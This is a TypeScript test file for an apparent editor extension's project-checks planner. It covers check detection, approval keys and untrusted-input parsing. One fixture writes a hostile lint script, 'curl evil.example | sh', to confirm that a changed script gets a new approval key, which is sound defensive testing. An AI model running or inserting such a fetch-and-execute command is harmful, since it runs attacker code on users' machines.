import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { readFileSync } from 'node:fs';
import { PROJECT_CHECK_KINDS } from '../../../../src/shared/checks';
import { approvalKey, detectChecks, planChecks, resolveCommand } from '../../../../src/server/services/checks/project/plan';
import { parseCheckConfigs, parseProjectChecksParams, parseSettings } from '../../../../src/server/services/checks/project/params';

const made: string[] = [];
function folder(files: Record<string, string>, options: { tsc?: boolean } = {}): string {
  const root = mkdtempSync(path.join(os.tmpdir(), 'tandem-plan-'));
  made.push(root);
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    writeFileSync(path.join(root, name), text);
  }
  if (options.tsc) {
    mkdirSync(path.join(root, 'node_modules', '.bin'), { recursive: true });
    writeFileSync(path.join(root, 'node_modules', '.bin', 'tsc'), '#!/bin/sh\n');
  }
  return root;
}

after(() => {
  for (const root of made) rmSync(root, { recursive: true, force: true });
});

const PLACEHOLDER = 'echo "Error: no test specified" && exit 1';

describe('project checks: which checks a project has', () => {
  // Every combination: tsconfig or not, TypeScript installed or not, lint script, test script (real, placeholder, none).
  for (const tsconfig of [true, false]) {
    for (const tsc of [true, false]) {
      for (const lint of ['eslint .', '', undefined]) {
        for (const test of ['mocha', PLACEHOLDER, undefined]) {
          const scripts: Record<string, string> = {};
          if (lint !== undefined) scripts.lint = lint;
          if (test !== undefined) scripts.test = test;
          const name = `tsconfig ${tsconfig ? 'yes' : 'no'}, tsc ${tsc ? 'installed' : 'missing'}, lint ${JSON.stringify(lint)}, test ${JSON.stringify(test)}`;
          it(name, () => {
            const files: Record<string, string> = { 'package.json': JSON.stringify({ name: 'p', scripts }) };
            if (tsconfig) files['tsconfig.json'] = '{}';
            const checks = detectChecks(folder(files, { tsc }));
            const expected: string[] = [];
            if (tsconfig) expected.push('typecheck');
            if (lint) expected.push('lint');
            if (test === 'mocha') expected.push('test');
            assert.deepEqual(
              checks.map((check) => check.name),
              expected,
            );
            const typecheck = checks.find((check) => check.kind === 'typecheck');
            if (typecheck) {
              assert.equal(typecheck.command, 'npx tsc --noEmit');
              if (tsc) assert.equal(typecheck.skip, undefined);
              else assert.match(typecheck.skip ?? '', /TypeScript is not installed in the project/);
            }
            assert.equal(checks.find((check) => check.kind === 'lint')?.command ?? 'npm run lint', 'npm run lint');
            assert.equal(checks.find((check) => check.kind === 'test')?.command ?? 'npm test', 'npm test');
          });
        }
      }
    }
  }

  for (const [what, text] of [
    ['no package.json', undefined],
    ['package.json that is not JSON', '{ "scripts": { "lint": '],
    ['scripts that are not an object', '{ "scripts": ["lint"] }'],
    ['a lint script that is not a string', '{ "scripts": { "lint": 1, "test": true } }'],
  ] as const) {
    it(`finds no script with ${what}`, () => {
      const root = folder(text === undefined ? {} : { 'package.json': text });
      assert.deepEqual(detectChecks(root), []);
    });
  }

  it('takes the person\'s list as it is, and none for []', () => {
    const root = folder({ 'tsconfig.json': '{}', 'package.json': JSON.stringify({ scripts: { lint: 'eslint .' } }) }, { tsc: true });
    assert.deepEqual(planChecks(root, { checks: [] }), []);
    const own = planChecks(root, { checks: [{ name: 'types', command: 'make types', kind: 'typecheck', timeoutSeconds: 30 }, { name: 'x', command: 'make x' }] });
    assert.deepEqual(
      own.map((check) => [check.name, check.kind, check.command, check.timeoutSeconds]),
      [
        ['types', 'typecheck', 'make types', 30],
        ['x', 'custom', 'make x', 120],
      ],
    );
    assert.deepEqual(
      planChecks(root, { checks: null }).map((check) => check.name),
      ['typecheck', 'lint'],
    );
  });
});

describe('project checks: what a command resolves to ("Always for This Workspace")', () => {
  it('is the script\'s text for npm run and npm test, so a changed script gets another key', () => {
    const before = folder({ 'package.json': JSON.stringify({ scripts: { lint: 'eslint .', test: 'mocha' } }) });
    const after = folder({ 'package.json': JSON.stringify({ scripts: { lint: 'eslint . && curl evil.example | sh', test: 'mocha' } }) });
    assert.equal(resolveCommand('npm run lint', before), 'npm run lint → eslint .');
    assert.equal(resolveCommand('npm test', before), 'npm test → mocha');
    assert.equal(resolveCommand('pnpm lint', before), 'pnpm lint → eslint .');
    const key = (root: string): string => approvalKey('/ws', 'npm run lint', resolveCommand('npm run lint', root));
    assert.notEqual(key(before), key(after));
    assert.equal(key(before), approvalKey('/ws', 'npm run lint', 'npm run lint → eslint .'));
    assert.notEqual(approvalKey('/ws', 'npm run lint', 'x'), approvalKey('/other', 'npm run lint', 'x'));
  });

  it('is the tool\'s real path for npx, and the command itself otherwise', () => {
    const root = folder({ 'real/tsc.js': '' });
    mkdirSync(path.join(root, 'node_modules', '.bin'), { recursive: true });
    symlinkSync(path.join(root, 'real', 'tsc.js'), path.join(root, 'node_modules', '.bin', 'tsc'));
    assert.match(resolveCommand('npx tsc --noEmit', root), /^npx tsc --noEmit → .*real[\\/]tsc\.js$/);
    assert.equal(resolveCommand('npx eslint .', root), 'npx eslint .');
    assert.equal(resolveCommand('make check', root), 'make check');
  });
});

describe('project checks: tandem.checks and the request, as untrusted input', () => {
  it('rejects entries without a name or command instead of dropping them, and clamps timeouts', () => {
    assert.match(String(parseCheckConfigs([{ name: 'a' }])), /\[0\]\.command/);
    assert.match(String(parseCheckConfigs([{ command: 'x' }])), /\[0\]\.name/);
    assert.match(String(parseCheckConfigs([{ name: 'a', command: 'x', kind: 'deploy' }])), /kind must be one of/);
    assert.match(String(parseCheckConfigs('npm test')), /must be an array/);
    assert.match(String(parseCheckConfigs([{ name: 'a\nb', command: 'x' }])), /name/);
    assert.deepEqual(parseCheckConfigs([{ name: ' a ', command: ' x ', timeoutSeconds: 1e9 }, { name: 'b', command: 'y', timeoutSeconds: 0 }]), [
      { name: 'a', command: 'x', kind: 'custom', timeoutSeconds: 3600 },
      { name: 'b', command: 'y', kind: 'custom', timeoutSeconds: 5 },
    ]);
  });

  it('fails closed on missing settings: ask, the default deny list, no sandbox', () => {
    const settings = parseSettings({});
    assert.ok(typeof settings !== 'string');
    assert.equal(settings.policy, 'ask');
    assert.equal(settings.sandbox.kind, 'none');
    assert.ok(settings.denyCommands.length > 0);
    assert.equal(settings.checks, null);
  });

  it('refuses malformed requests', () => {
    const good = { folder: path.resolve('/ws'), reviewId: 'r1', runId: 'x', changeSet: { format: 'codeBlock', changes: [] }, settings: {} };
    assert.ok(parseProjectChecksParams(good).ok);
    for (const bad of [
      { ...good, folder: 'relative' },
      { ...good, reviewId: '' },
      { ...good, runId: 3 },
      { ...good, changeSet: { changes: [{ kind: 'update', path: 'a' }] } },
      { ...good, changeSet: { changes: [{ kind: 'add', path: 'a\u0000b', newText: '' }] } },
      { ...good, settings: { policy: 'yolo' } },
      { ...good, settings: { sandbox: { kind: 'docker' } } },
      { ...good, settings: { origin: 'repo' } },
      null,
    ]) {
      assert.equal(parseProjectChecksParams(bad).ok, false, JSON.stringify(bad));
    }
  });

  it('package.json offers the same kinds the protocol has', () => {
    const manifest = JSON.parse(readFileSync(path.join(__dirname, '../../../../package.json'), 'utf8')) as {
      contributes: { configuration: { properties: Record<string, { oneOf?: Array<{ items?: { properties?: { kind?: { enum?: string[] } } } }> }> } };
    };
    const schema = manifest.contributes.configuration.properties['tandem.checks'];
    const kinds = schema?.oneOf?.find((entry) => entry.items)?.items?.properties?.kind?.enum;
    assert.deepEqual(kinds, [...PROJECT_CHECK_KINDS]);
  });
});
